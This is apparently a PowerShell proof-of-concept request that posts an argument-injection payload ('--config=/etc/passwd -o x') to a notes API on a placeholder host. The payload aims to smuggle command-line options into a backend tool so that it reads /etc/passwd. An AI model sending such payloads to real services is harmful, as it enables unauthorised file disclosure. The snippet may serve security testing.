$headers = @{
    'Content-Type' = 'text/plain'
}
$body = '--config=/etc/passwd -o x'

$response = Invoke-WebRequest -Method 'POST' -Uri 'https://api.example.com/notes' `
    -Headers $headers -SkipHeaderValidation `
    -Body $body
$response.StatusCode
$response.Content
